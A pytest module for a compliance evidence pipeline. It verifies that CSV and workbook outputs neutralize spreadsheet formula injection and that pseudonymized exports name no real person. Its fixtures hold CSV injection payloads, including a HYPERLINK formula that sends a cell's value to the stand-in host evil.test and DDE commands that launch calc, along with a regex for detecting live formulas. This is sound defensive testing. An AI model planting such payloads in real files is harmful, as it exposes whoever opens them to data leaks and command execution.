"""Evidence an adversary cannot pass off: text a source system controls never becomes a live spreadsheet formula in
any CSV the pipeline writes, and a pseudonymized export leaves no person's name, e-mail or login in any file."""

from __future__ import annotations

import csv
import json
import re
import shutil
import subprocess
import zipfile
from datetime import date, timedelta
from pathlib import Path

import duckdb
import pytest
from openpyxl import load_workbook

from evidence_pipeline.catalogue import Control, load_catalogue
from evidence_pipeline.cli import main
from evidence_pipeline.evidence.csv_cells import neutralize_cell, restore_cell, sql_neutralize_cell
from evidence_pipeline.evidence.daily import BundleInputs, write_bundle
from evidence_pipeline.evidence.period import load_period, write_export
from evidence_pipeline.evidence.pseudonymize import PSEUDONYM_KEY_ENV
from evidence_pipeline.evidence.sampling import draw_sample, write_sample
from evidence_pipeline.evidence.signing import SigningKey, generate_key
from evidence_pipeline.evidence.verify import verify_bundle
from evidence_pipeline.settings import project_file
from tests.conftest import PipelineDay, bundles_of
from tests.evidence.conftest import outcome, row
from warehouse import Warehouse

CONTROL = "cc8_1_branch_review_rules"
#: what a PR title, repository or HR name can say (OWASP's CSV injection examples and each trigger character)
HOSTILE = [
    '=HYPERLINK("http://evil.test/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "'=already quoted",
]
#: a cell a spreadsheet would evaluate (or that hides a formula behind a blank)
LIVE = re.compile(r"^[=+\-@\t\r\n]")


@pytest.fixture(scope="module")
def control() -> Control:
    return load_catalogue(project_file("controls_map.yaml")).by_id[CONTROL]


def _cells(path: Path) -> list[dict[str, str]]:
    with path.open(newline="") as handle:
        return list(csv.DictReader(handle))


def _live_cells(folder: Path) -> list[tuple[str, str]]:
    return [
        (path.relative_to(folder).as_posix(), value)
        for path in sorted(folder.rglob("*.csv"))
        for cells in _cells(path)
        for value in cells.values()
        if value and LIVE.match(value)
    ]


def _formulas(workbook: Path) -> list[str]:
    with zipfile.ZipFile(workbook) as archive:
        return [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and re.search(rb"<f[ >]", archive.read(name))
        ]


def test_the_sql_and_the_python_rule_agree_and_restore_exactly() -> None:
    values = [*HOSTILE, "repo-a", "a=b", "", "''+x", "'", "é=", "=", " =x", "5", "-", "@"]
    with duckdb.connect() as con:
        neutralized = [con.execute(f"SELECT {sql_neutralize_cell('?')}", [v, v, v]).fetchone()[0] for v in values]
        assert con.execute(f"SELECT {sql_neutralize_cell('?')}", [None, None, None]).fetchone()[0] is None
    assert neutralized == [neutralize_cell(v) for v in values]
    assert [v for v in neutralized if LIVE.match(v)] == []
    assert neutralized[: len(HOSTILE)] == ["'" + v for v in HOSTILE]
    assert neutralized[8:10] == ["repo-a", "a=b"] and neutralize_cell(-2) == -2  # a number stays a number
    assert [restore_cell(v) for v in neutralized] == values


@pytest.fixture
def hostile_day(control: Control, tmp_path: Path) -> tuple[Path, Path, SigningKey]:
    """A daily bundle whose resources are named, and whose reasons are written, by an adversary; and a waivers file
    with hostile text. Returns (evidence root, bundle, key)."""
    day = date(2026, 1, 5)
    rows = [row(f"repo-{n}", "fail" if n % 2 else "pass", reason=text, name=text) for n, text in enumerate(HOSTILE)]
    rows.append(row("=cmd|' /C calc'!A0", "fail"))  # the resource id itself
    waivers = tmp_path / "waivers.yaml"
    waivers.write_text(
        json.dumps(
            {
                "waivers": [
                    {
                        "control": CONTROL,
                        "resource": "repo-1",
                        "reason": HOSTILE[0],
                        "approver": "@SUM(1+1)",
                        "expires": "2026-02-01",
                    }
                ]
            }
        )
    )
    key = generate_key(tmp_path / "keys" / "hostile.pem")
    inputs = BundleInputs(
        snapshot_date=day,
        run_id="hostile",
        outcomes=[outcome(control, day, rows)],
        datasets=[],
        catalogue=load_catalogue(project_file("controls_map.yaml")),
        waivers_file=waivers,
    )
    evidence = tmp_path / "evidence"
    return evidence, write_bundle(Warehouse(tmp_path / "warehouse.duckdb"), evidence, inputs, signing_key=key), key


def test_daily_bundle_csvs_hold_no_live_formula(hostile_day: tuple[Path, Path, SigningKey]) -> None:
    _, bundle, _ = hostile_day
    assert _live_cells(bundle) == []
    population = _cells(bundle / "controls" / CONTROL / "population.csv")
    assert len(population) == json.loads((bundle / "controls" / CONTROL / "result.json").read_text())["population"]
    by_id = {r["resource_id"]: r for r in population}
    for n, text in enumerate(HOSTILE):
        assert by_id[f"repo-{n}"]["resource_name"] == "'" + text and by_id[f"repo-{n}"]["reason"] == "'" + text
    assert "'=cmd|' /C calc'!A0" in by_id
    exceptions = {r["resource_id"]: r for r in _cells(bundle / "controls" / CONTROL / "exceptions.csv")}
    assert exceptions["repo-1"]["resource_name"] == "'" + HOSTILE[1]
    # every text cell is quoted, so a separator inside one (";" in some locales) cannot start a new cell
    raw = (bundle / "controls" / CONTROL / "population.csv").read_text()
    assert '"\'=HYPERLINK(""http://evil.test/?""&A1,""click"")"' in raw
    assert raw.startswith('"resource_id","resource_name"')
    waiver = _cells(bundle / "waivers.csv")[0]
    assert waiver["reason"] == "'" + HOSTILE[0] and waiver["approver"] == "'@SUM(1+1)"
    verify_bundle(bundle, require_signature=True)  # the hashes and counts still tie the CSVs to the verdict


def test_the_workbook_keeps_the_text_as_typed_text_without_a_prefix(hostile_day: tuple[Path, Path, SigningKey]) -> None:
    _, bundle, _ = hostile_day
    sheet = load_workbook(bundle / "evidence.xlsx")[CONTROL[:31]]
    cells = {sheet.cell(r, 1).value: sheet.cell(r, 2) for r in range(2, sheet.max_row + 1)}
    for n, text in enumerate(HOSTILE):
        name = cells[f"repo-{n}"]
        assert name.value == text and name.data_type == "s"  # the source's text, exactly: a string, never a formula
    assert "=cmd|' /C calc'!A0" in cells
    assert _formulas(bundle / "evidence.xlsx") == []


def test_period_export_and_sample_csvs_hold_no_live_formula(hostile_day: tuple[Path, Path, SigningKey]) -> None:
    evidence, bundle, key = hostile_day
    day = date(2026, 1, 5)
    export = write_export(evidence, load_period(evidence, day, day), key)
    assert _live_cells(export) == []
    population = {r["resource_id"]: r for r in _cells(export / "controls" / CONTROL / "population.csv")}
    for n, text in enumerate(HOSTILE):  # read back from the daily CSV and written again: one prefix, not two
        assert population[f"repo-{n}"]["resource_name"] == "'" + text
    exceptions = {r["resource_id"]: r for r in _cells(export / "controls" / CONTROL / "exceptions.csv")}
    assert exceptions["repo-1"]["last_reason"] == "'" + HOSTILE[1]
    sheet = load_workbook(export / "evidence.xlsx")["Exceptions"]
    assert {sheet.cell(r, 3).value for r in range(2, sheet.max_row + 1)} >= {HOSTILE[1], HOSTILE[3]}
    assert _formulas(export / "evidence.xlsx") == []
    verify_bundle(export, require_signature=True)

    sample = write_sample(evidence, draw_sample(evidence, CONTROL, day, day, seed=3, size=len(HOSTILE) + 1), key)
    assert _live_cells(sample) == []
    picked = {r["resource_id"]: r for r in _cells(sample / "sample.csv")}
    assert picked["repo-0"]["resource_name"] == "'" + HOSTILE[0] and "'=cmd|' /C calc'!A0" in picked
    verify_bundle(sample, require_signature=True)


# ---------------------------------------------------------------------------------------------------------------
# Pseudonymization: no person left in any file of an export
# ---------------------------------------------------------------------------------------------------------------


def _texts(folder: Path) -> dict[str, str]:
    """Every file's text, lower-cased: the workbook's XML parts unzipped, the PDF through pdftotext."""
    texts = {}
    for path in sorted(p for p in folder.rglob("*") if p.is_file()):
        name = path.relative_to(folder).as_posix()
        if path.suffix == ".xlsx":
            with zipfile.ZipFile(path) as archive:
                texts.update({f"{name}:{part}": archive.read(part).decode().lower() for part in archive.namelist()})
        elif path.suffix == ".pdf":
            texts[name] = subprocess.run(
                ["pdftotext", str(path), "-"], capture_output=True, text=True, check=True
            ).stdout.lower()
        else:
            texts[name] = path.read_bytes().decode("utf-8", errors="replace").lower()
    return texts


def _leaks(texts: dict[str, str], pipeline_day: PipelineDay) -> dict[str, list[str]]:
    """Each file's names, e-mails, e-mail local parts and person accounts (GitHub logins, IAM users) of the
    sandbox's people; the ones that are words (logins, local parts) only as whole words."""
    org = pipeline_day.sandbox.org
    phrases = {p.name.lower() for p in org.people} | {p.email.lower() for p in org.people}
    words = {p.email.split("@")[0].lower() for p in org.people}
    words |= {
        a.account_id.rsplit("/", 1)[-1].lower()
        for a in org.accounts
        if a.kind == "person" and a.system in ("github", "aws")
    }
    word = re.compile(
        r"(?<![\w.@-])(" + "|".join(map(re.escape, sorted(words, key=len, reverse=True))) + r")(?![\w@-])"
    )
    leaks = {}
    for name, text in texts.items():
        found = sorted({p for p in phrases if p in text} | set(word.findall(text)))
        if found:
            leaks[name] = found
    return leaks


def test_a_pseudonymized_export_and_sample_name_nobody(
    pipeline_day: PipelineDay, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    day = pipeline_day.day
    original = bundles_of(pipeline_day.paths, day)[0]
    home = tmp_path / "home"
    # the session's data untouched; the chain whole: the day before (its access-review campaign's) and the day
    for bundle in (*bundles_of(pipeline_day.paths, day - timedelta(days=1)), original):
        shutil.copytree(bundle, home / "evidence" / bundle.parent.name / bundle.name)
    key_file = tmp_path / "pseudonym.key"
    key_file.write_bytes(b"p" * 32)
    monkeypatch.setenv("EVIDENCE_HOME", str(home))
    monkeypatch.setenv(PSEUDONYM_KEY_ENV, str(key_file))
    # the real day names its people: the scan below finds them when they are there
    assert "cc6_2_leavers_deprovisioned/population.csv" in _leaks(
        {
            "cc6_2_leavers_deprovisioned/population.csv": (
                original / "controls" / "cc6_2_leavers_deprovisioned" / "population.csv"
            )
            .read_text()
            .lower()
        },
        pipeline_day,
    )

    assert main(["export", "--from", day.isoformat(), "--to", day.isoformat(), "--pseudonymize"]) == 0
    export = Path(capsys.readouterr().out.strip().splitlines()[-1].split(": ", 1)[1])
    assert (
        main(
            [
                "sample",
                "--control",
                "cc6_2_leavers_deprovisioned",
                "--from",
                day.isoformat(),
                "--to",
                day.isoformat(),
                "--seed",
                "5",
                "--size",
                "1000",
                "--pseudonymize",
            ]
        )
        == 0
    )
    sample = Path(capsys.readouterr().out.strip().splitlines()[-1].split(": ", 1)[1])

    texts = {**_texts(export), **{f"sample/{k}": v for k, v in _texts(sample).items()}}
    assert any(name.startswith("evidence.xlsx:xl/worksheets/") for name in texts)
    assert _leaks(texts, pipeline_day) == {}
    # what is not personal stays readable, and the export still proves itself
    assert "example-corp/svc-00000-protected-with-review" in texts["controls/cc8_1_branch_review_rules/population.csv"]
    assert "person-" in texts["controls/cc6_2_leavers_deprovisioned/population.csv"]
    verify_bundle(export, require_signature=True)
    verify_bundle(sample, require_signature=True)
    assert json.loads((sample / "sample.json").read_text())["population_size"] == len(_cells(sample / "population.csv"))


def test_learned_people_are_replaced_inside_any_text_as_whole_words(tmp_path: Path) -> None:
    from evidence_pipeline.evidence.pseudonymize import Pseudonymizer

    bundle = tmp_path / "bundle"
    (bundle / "sources" / "hr").mkdir(parents=True)
    (bundle / "sources" / "github").mkdir()
    (bundle / "sources" / "hr" / "roster.jsonl").write_text(
        json.dumps({"email": "ada.lovelace@corp.test", "name": "Ada Lovelace", "manager": None}) + "\n"
    )
    (bundle / "sources" / "github" / "merged_pull_requests.jsonl").write_text(
        json.dumps(
            {
                "author": "ada-l",
                "author_type": "User",
                "merged_by": "dependabot",
                "merged_by_type": "Bot",
                "reviews": [{"author": "grace-h", "author_type": "User"}],
                "approvers_at_merge": ["grace-h"],
            }
        )
        + "\n"
    )
    pseudonymizer = Pseudonymizer(b"k" * 32, "test")
    pseudonymizer.learn_bundle(bundle)
    name, local = pseudonymizer.pseudonym("Ada Lovelace"), pseudonymizer.pseudonym("ada.lovelace")
    assert pseudonymizer.text("ADA LOVELACE (entra)") == f"{name} (entra)"
    assert pseudonymizer.text("aws:1234/ada.lovelace left.") == f"aws:1234/{local} left."
    assert (
        pseudonymizer.text("merged by ada-l, approved by grace-h")
        == f"merged by {pseudonymizer.pseudonym('ada-l')}, approved by {pseudonymizer.pseudonym('grace-h')}"
    )
    # never inside a longer word, and a bot stays a bot
    assert (
        pseudonymizer.text("ada-lovelace-fanclub, Ada Lovelaces, dependabot")
        == "ada-lovelace-fanclub, Ada Lovelaces, dependabot"
    )
